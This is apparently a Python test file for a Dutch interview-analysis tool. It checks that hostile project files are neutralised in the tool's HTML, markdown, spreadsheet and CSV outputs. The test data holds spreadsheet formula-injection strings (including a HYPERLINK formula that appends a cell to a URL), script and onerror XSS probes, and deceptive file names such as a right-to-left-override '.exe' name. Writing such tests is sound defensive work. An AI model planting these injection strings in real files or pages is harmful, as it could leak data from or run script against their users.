# ruff: noqa: E501
"""Hostile files beside good ones in one project: the good ones come through, and nothing hostile comes out."""

from __future__ import annotations

import csv
import os
import re
import zipfile

from narratief.domain.project import load_project
from narratief.domain.project_identity import IDENTITY_FILE
from narratief.files.formulas import is_formula_like
from narratief.pipeline.coding import code_interviews
from narratief.pipeline.open_project import open_folder
from narratief.pipeline.outputs import write_outputs
from narratief.pipeline.take_in import take_in
from tests.hostile.transcripts import CASES, GOOD

LIGHT = ("afgekapt", "ruis", "kop-en-ruis", "macros", "standaardwaarden", "diep", "bom", "kring", "halve", "nullen", "rechts", "emoji", "geen-tekens", "formules", "script", "markdown", "sjabloon", "utf", "haakjes")  # fmt: skip
EVIL = """Interviewer: Hoe ging dat?
Inwoner: =HYPERLINK("http://x.nl?"&A1) Er kwam nooit meer een brief en wij hebben niets meer van de gemeente gehoord.
Interviewer: <b class=kwaad>En</b> toen?
Inwoner: <script>alert(1)</script> Niks. Wij hebben onze ideeën ingeleverd en nooit meer iets gehoord. Geen brief, geen mail.
Interviewer: En daarna?
Inwoner: @SUM(1+1) Wij hebben <img src=x onerror=alert(2)> nooit antwoord gekregen op onze vragen, het bleef gewoon stil.
"""
NAMES = [
    "=1+1.txt",
    "<img src=x onerror=alert(3)>.txt",
    "regel\neinde.txt",
    "\u202etxt.exe.txt",
    "&amp; 'x'.txt",
    "[klik](x).txt",
]


def test_good_files_come_through_and_nothing_hostile_comes_out(tmp_path, own_home):
    folder, out = tmp_path / "<b>plein", tmp_path / "uit"
    folder.mkdir()
    (folder / "project.yaml").write_text(r'title: "=1+1 <script>alert(4)</script> \uD83D \0"' + "\n", "utf-8")
    for suffix, data in GOOD.items():
        (folder / f"goed.{suffix}").write_bytes(data)
    for case in CASES:
        if case.name.partition("/")[2].startswith(LIGHT):
            (folder / case.name.partition("/")[2]).write_bytes(case.make())
    for name in NAMES:
        (folder / name).write_text(EVIL, "utf-8")
    with open(os.fsencode(folder) + b"/naam-\xff.txt", "wb") as file:  # noqa: PTH123 - a name that is no text
        file.write(EVIL.encode())
    os.mkfifo(folder / "pijp.txt")
    (folder / "map.txt").mkdir()
    before = {path for path in tmp_path.rglob("*") if out not in path.parents and own_home not in path.parents}

    taken = take_in(open_folder(folder))
    code_interviews(open_folder(folder), taken.files)
    write_outputs(open_folder(folder), taken.files, taken.problems, out)

    assert {f"goed.{suffix}" for suffix in GOOD if suffix != "srt"} <= set(taken.files)
    assert not [problem for problem in taken.problems if "onverwachte fout" in problem.message]
    told = {problem.file for problem in taken.problems} | set(taken.files)
    assert {"afgekapt.docx", "=1+1.txt", "regel?einde.txt", "naam-?.txt"} <= told
    after = {path for path in tmp_path.rglob("*") if out not in path.parents and own_home not in path.parents}
    kept = {tmp_path / "vault", tmp_path / "sleutel", folder / IDENTITY_FILE}
    assert {path for path in after - before - {out} - kept if not kept & set(path.parents)} == set()
    _harmless(out / load_project(folder).name)


def _harmless(out):
    html = (out / "synthese.html").read_text("utf-8")
    assert "Geen brief, geen mail" in html
    assert "onerror=alert(2)" in html  # the words are there, as words
    for text in (html, (out / "verslag.md").read_text("utf-8")):
        assert not re.search(r"(?<!\\)<(script>alert|img src=x|b class=kwaad|b>plein)", text)
    assert "](x)" not in (out / "verslag.md").read_text("utf-8").replace("\\]", "")
    with zipfile.ZipFile(out / "synthese.xlsx") as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)
    rows = list(csv.DictReader((out / "codes.csv").open(encoding="utf-8", newline="")))
    assert not any(is_formula_like(cell) for row in rows for cell in row.values())
    assert any("Geen brief, geen mail" in row["text"] for row in rows)
